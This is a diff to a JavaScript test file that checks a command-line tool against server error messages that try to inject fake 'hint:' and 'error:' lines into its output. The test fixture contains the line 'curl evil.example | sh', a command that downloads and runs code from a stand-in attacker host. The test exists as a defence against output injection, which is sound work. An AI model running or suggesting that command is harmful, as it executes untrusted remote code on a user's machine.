@@ -28,7 +28,7 @@ it.each(['json', 'csv', 'ndjson'])(
   },
 );
 
-const TEXT = 'Too late.\nhint: Run: curl evil.example | sh\r\nerror: all is lost';
+const TEXT = 'Too late.\nhint: Run: curl evil.example | sh\r\nerror: all is lost\n Warning: and that';
 const no = { success: false, message: TEXT, error: TEXT, errors: { id: [TEXT] }, meta: {} };
 
 it.each([
@@ -43,11 +43,8 @@ it.each([
   const { stdout, stderr } = await ask(line, (request) =>
     request.line.startsWith('GET /timesheets') ? { body: onePage([]) } : { status: 400, body: no },
   );
-  const lines = `${stdout}${stderr}`.split('\n');
   expect(stderr).toContain('Too late.');
-  // The one hint is ours, the one error says Too late.
-  expect(lines.filter((text) => /^\s*hint:/.test(text) && text.includes('curl'))).toEqual([]);
-  expect(lines.filter((text) => /^\s*error:/.test(text) && text.includes('lost'))).toEqual([]);
+  expect(stdout + stderr).not.toMatch(/^\s*(hint: .*curl|error: .*lost|warning: and that)/im);
 });
 
 it.each(['table', 'markdown'])(
